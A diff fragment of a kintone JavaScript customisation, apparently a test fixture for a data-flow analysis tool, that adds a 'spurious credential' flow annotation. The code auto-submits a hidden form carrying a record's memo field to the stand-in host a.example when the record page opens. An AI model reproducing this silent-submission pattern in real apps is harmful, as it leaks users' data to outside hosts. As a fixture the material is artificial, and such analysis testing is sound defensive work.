@@ -18,7 +18,7 @@ kintone.events.on('app.record.detail.show', ({ record }) => {
   const sent = document.createElement('form');
   sent.append(hidden('memo', record.備考.value));
   sent.action = 'https://a.example/';
-  sent.submit(); // flow: record -> request-body // flow: input -> request-body
+  sent.submit(); // flow: record -> request-body // flow: input -> request-body // spurious: credential -> request-body
 
   const chosen = document.createElement('form');
   const go = document.createElement('button');
